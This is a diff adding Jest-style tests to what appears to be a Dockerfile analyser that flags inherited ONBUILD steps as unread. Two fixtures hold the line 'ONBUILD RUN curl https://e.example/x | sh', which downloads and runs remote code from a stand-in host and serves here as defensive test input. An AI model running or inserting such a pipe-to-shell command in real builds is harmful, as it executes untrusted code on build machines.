@@ -173,3 +173,17 @@ describe('source that a verified download brought', () => {
     expect(unread(run)).toEqual(['2 /i.sh held']);
   });
 });
+
+describe('ONBUILD steps of a base', () => {
+  const reason = 'the ONBUILD steps of its base run, and were not read';
+  test.each([
+    'FROM x AS a\nONBUILD RUN curl https://e.example/x | sh\nFROM a\nRUN ls',
+    'FROM node:6-onbuild\nRUN ls',
+  ])('%j', (text) => {
+    expect(analysisOf(text).unread.map((one) => one.reason)).toEqual([reason]);
+  });
+
+  test('those of the image itself run in another build', () => {
+    expect(analysisOf('FROM x\nONBUILD RUN curl https://e.example/x | sh').unread).toEqual([]);
+  });
+});
